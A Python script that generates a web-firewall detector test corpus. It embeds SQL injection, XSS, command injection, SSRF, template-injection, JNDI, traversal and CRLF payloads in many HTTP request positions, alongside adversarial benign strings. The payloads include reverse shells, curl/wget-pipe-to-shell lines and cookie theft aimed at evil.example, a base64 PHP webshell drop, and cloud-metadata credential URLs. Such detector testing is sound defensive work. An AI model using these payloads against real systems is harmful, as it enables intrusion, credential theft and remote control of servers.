#!/usr/bin/env python3
"""Writes test/corpus/placements/: every payload family below in every place a client controls
(query, path segment, form, JSON, JSON with \\u escapes, cookie, User-Agent, Referer query, a custom
header, multipart, XML, an untyped body) and under the encodings WAF test tools apply (none,
double percent-encoding, base64), plus the benign values nearest to the attacks in the same places.

Written by the lead engineer as a hold-out set while the detectors were being tuned on crs/ and
own/. What it showed was fixed in the places and decoders (base64 in path segments and untyped
bodies, the Referer's query arguments, ';' in path segments, URLs in custom headers), not by
teaching a detector its payloads. The benign list is deliberately adversarial (shell and SQL words in prose, apostrophes,
comparisons); its pass rate is a lower bound, not the rate on ordinary traffic.
Usage: build_placements.py [OUT_DIR]   (deterministic: a fixed seed picks the encodings)
"""
import base64, json, os, random, shutil, urllib.parse, sys
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "../placements")
rnd = random.Random(7)
q = lambda s: urllib.parse.quote(s, safe="")
UA = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15"

def req(method, target, headers=(), body=b"", ct=None):
    if isinstance(body, str): body = body.encode()
    lines = [f"{method} {target} HTTP/1.1", "Host: api.example.org", f"User-Agent: {UA}", "Accept: */*"] + list(headers)
    if ct: lines.append(f"Content-Type: {ct}")
    if body: lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body

def xml_ent(s): return "".join(f"&#x{ord(c):x};" if c in "<>&'\"" or rnd.random() < .3 else c for c in s)
def js_uni(s): return "".join(f"\\u{ord(c):04x}" if not c.isalnum() or rnd.random() < .3 else c for c in s)
ENC = {
  "plain": lambda s: s,
  "url": lambda s: s,  # placement already percent-encodes
  "durl": lambda s: q(s),
  "b64": lambda s: base64.b64encode(s.encode()).decode(),
}
def place(where, v, enc):
    e = ENC[enc](v)
    if where == "query": return req("GET", "/api/items?id=5&q=" + q(e))
    if where == "path": return req("GET", "/files/" + q(e).replace("%2F", "/") + "/view")
    if where == "form": return req("POST", "/login", body="user=bob&comment=" + q(e), ct="application/x-www-form-urlencoded")
    if where == "json": return req("POST", "/api/v2/orders", body=json.dumps({"order": {"note": e, "qty": 2}}), ct="application/json")
    if where == "jsonu": return req("POST", "/api/v2/orders", body='{"order":{"note":"' + js_uni(v) + '"}}', ct="application/json")
    if where == "cookie": return req("GET", "/", [f"Cookie: sid=a81f; pref={q(e)}"])
    if where == "ua": return req("GET", "/", [f"User-Agent: {e}"] )
    if where == "referer": return req("GET", "/", [f"Referer: https://www.example.org/?q={q(e)}"])
    if where == "xhdr": return req("GET", "/", [f"X-Custom-Data: {e}"])
    if where == "multipart":
        b = "----b0undary9"
        body = f'--{b}\r\nContent-Disposition: form-data; name="bio"\r\n\r\n{e}\r\n--{b}--\r\n'
        return req("POST", "/profile", body=body, ct=f"multipart/form-data; boundary={b}")
    if where == "xml": return req("POST", "/soap", body=f'<?xml version="1.0"?><Envelope><Body><search>{xml_ent(v)}</search></Body></Envelope>', ct="text/xml")
    if where == "raw": return req("POST", "/ingest", body=e)
    raise ValueError(where)
PLACES = ["query", "path", "form", "json", "jsonu", "cookie", "ua", "referer", "xhdr", "multipart", "xml", "raw"]

ATTACKS = {
 "sqli": ["1' or '1'='1", "admin'-- ", "' OR 1=1#", "1 AND 1=2 UNION SELECT NULL,username,password FROM users--",
   "-1 union all select 1,2,group_concat(table_name) from information_schema.tables where table_schema=database()",
   "1; DROP TABLE customers", "1' AND SLEEP(5) AND 'x'='x", "1) or pg_sleep(5)--", "'; WAITFOR DELAY '0:0:5'--",
   "1' AND extractvalue(1,concat(0x7e,version()))-- -", "1 AND (SELECT 1 FROM (SELECT(SLEEP(3)))a)",
   "' UnIoN/**/SeLeCt 1,@@version,3-- -", "1 ORDER BY 12-- ", "\" or \"\"=\"", "') or ('a'='a",
   "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--", "1 or benchmark(5000000,md5(1))#",
   "x' AND 1=CONVERT(int,(SELECT @@version))--", "1;select case when (1=1) then pg_sleep(3) else pg_sleep(0) end--",
   "' or username like '%adm%", "1' || (select dbms_pipe.receive_message('a',5) from dual) || '", "%' and 1=0 union select null,load_file('/etc/passwd')#",
   "999999.9 union all select 0x31303235343830303536", "1'/**/or/**/'1'/**/=/**/'1", "admin' #"],
 "xss": ["<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=alert`1`>",
   "javascript:alert(1)", "<iframe src=\"javascript:alert(1)\"></iframe>", "' onmouseover='alert(1)",
   "<body onload=prompt(1)>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<details open ontoggle=confirm(1)>",
   "<img src=1 oNeRrOr=eval(atob('YWxlcnQoMSk='))>", "\";alert(String.fromCharCode(88,83,83));//", "<scr<script>ipt>alert(1)</script>",
   "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
   "<input autofocus onfocus=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "<x onclick=alert(1)>click", "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
   "<video><source onerror=\"alert(1)\">", "<style>@import 'http://evil.example/x.css';</style>", "<marquee onstart=alert(1)>"],
 "command_injection": [";cat /etc/passwd", "| id", "`whoami`", "$(uname -a)", "127.0.0.1 && ping -c 3 evil.example", "x; curl http://evil.example/s.sh | sh",
   "|| wget -O- http://10.0.0.5/x | bash", "; nc -e /bin/sh 10.0.0.1 4444", "a%0aid", "cat${IFS}/etc/shadow", "& dir c:\\", "| powershell -enc SQBFAFgA",
   ";/bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "$(sleep 10)", "`ping -n 20 127.0.0.1`", "; w'h'o'a'm'i", "|/usr/bin/id", "; echo PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg== | base64 -d > x.php",
   "& ipconfig /all", "; ls -la /var/www"],
 "path_traversal": ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/hosts", "..\\..\\..\\windows\\win.ini", "/etc/passwd",
   "%2e%2e/%2e%2e/%2e%2e/proc/self/environ", "file:///etc/passwd", "..%c0%af..%c0%afetc/passwd", "C:\\boot.ini", "/var/www/../../etc/group", "../../../../../../windows/system32/drivers/etc/hosts"],
 "rfi_ssrf": ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/", "http://127.0.0.1:6379/",
   "gopher://127.0.0.1:25/_HELO", "http://[::1]/admin", "http://2130706433/", "http://0x7f000001/", "dict://localhost:11211/stats", "file:///proc/self/cmdline",
   "http://evil.example/shell.txt?", "https://10.0.0.12/internal/admin", "http://localhost:8080/actuator/env"],
 "ssti": ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "#{7*7}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
   "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "#set($x=7*7)$x", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "*{7*7}"],
 "jndi": ["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:r}mi://evil.example/x}", "${jndi:dns://x.evil.example}", "${${::-j}${::-n}${::-d}${::-i}:ldap://e.example/z}"],
 "nosqli": ["{\"$ne\": null}", "{\"$gt\": \"\"}", "[$regex]=.*", "{\"$where\": \"sleep(100)\"}"],
 "ldapi": ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)"],
 "crlf": ["x%0d%0aSet-Cookie:%20admin=1", "foo\r\nLocation: http://evil.example", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1 200 OK"],
}
BENIGN = ["O'Brien", "D'Angelo & Sons", "Please select the best option from the drop-down and click update", "union station, chicago",
  "I'd like to order 2-3 pieces; is that ok?", "rock & roll", "Let's meet at 5 o'clock -- ok?", "price: $19.99 (incl. tax)", "50% off!",
  "The <b>quick</b> brown fox", "see https://en.wikipedia.org/wiki/SQL_injection for details", "C'est la vie, n'est-ce pas ?",
  "Where are my orders from last week?", "SELECT your seat below", "1 + 1 = 2", "a=b&c=d", "user@example.com", "+1 (555) 010-9999",
  "It's 5' 11\" tall", "#hashtag @mention", "email me at \"john.doe\"@example.com", "I said: \"don't drop the table!\"",
  "if (a < b && c > d) { return; }", "for i in range(10): print(i)", "ls -la shows all files", "cat and dog", "Ping me when you are back",
  "Tom & Jerry | cartoon", "2024-05-01T10:00:00Z", "../images/logo.png", "C:\\Users\\alice\\Documents\\report.docx", "Q&A: where/when/who?",
  "I love this product!!! 10/10 would buy again :)", "{\"name\":\"x\"}", "<p>Hello <em>world</em></p>", "Delete my account, please.",
  "How do I use ORDER BY in SQL?", "The script ran for 5 minutes", "alert: battery low", "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
  "java.lang.NullPointerException at com.example.Foo.bar(Foo.java:42)", "~/projects/app", "100% cotton; machine wash", "x * y / z",
  "Smith, John; Doe, Jane", "He said 'or else'", "Rock'n'roll band 'AC/DC'", "admin", "null", "true", "-1", "0x1F", "#FF00AA",
  "Hello {{name}}, welcome", "Total: ${amount}", "where is 1=1 in math?", "My password is not 'password' 123", "select * from the menu, anything",
  "Fish & chips; mushy peas", "https://cdn.example.com/a/b.js?v=1.2.3", "/usr/local/bin is on my PATH", "wget is a download tool",
  "Dear team,\nplease find attached.\nRegards", "a|b|c", "$(document).ready is jQuery", "SLEEP well, and drink water", "Drop by anytime!",
  "Mary's and John's orders", "'quoted'", "\"double\"", "(parenthesised remark)", "x=1; y=2", "1;2;3", "-- signature", "/* note */",
  "naïve café résumé", "日本語のテキスト", "Привет, мир", "emoji 🎉🎉", "tab\tseparated\tvalues", "name=O'Reilly Media",
  "The Union of Concerned Scientists", "insert coin to continue", "update: shipping delayed", "grant access request form",
  "curl -X POST is how you call the API", "the Exec committee meets on Monday", "from: alice; to: bob", "2 > 1 and 3 < 4",
  "Ireland's 'craic' is 'mighty'", "Bob's pizza -- best in town!", "<3 thanks", "50 < x < 100", "if x>=10 or y<=5 then"]
BPLACES = PLACES

def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "wb").write(data)

shutil.rmtree(OUT, ignore_errors=True)
n = 0
for cls, vals in ATTACKS.items():
    for i, v in enumerate(vals):
        for where in PLACES:
            for enc in ("plain", "durl", "b64"):
                if enc != "plain" and rnd.random() < .7: continue
                if where in ("ua", "xhdr") and ("\r" in v or "\n" in v): continue
                write(f"{OUT}/{cls}/attack/{i:03d}-{where}-{enc}.http", place(where, v, enc)); n += 1
for i, v in enumerate(BENIGN):
    for where in BPLACES:
        if where in ("ua", "xhdr") and "\n" in v: continue
        write(f"{OUT}/benign_values/benign/{i:03d}-{where}.http", place(where, v, "plain")); n += 1
print(f"build_placements: wrote {n} requests to {OUT}")
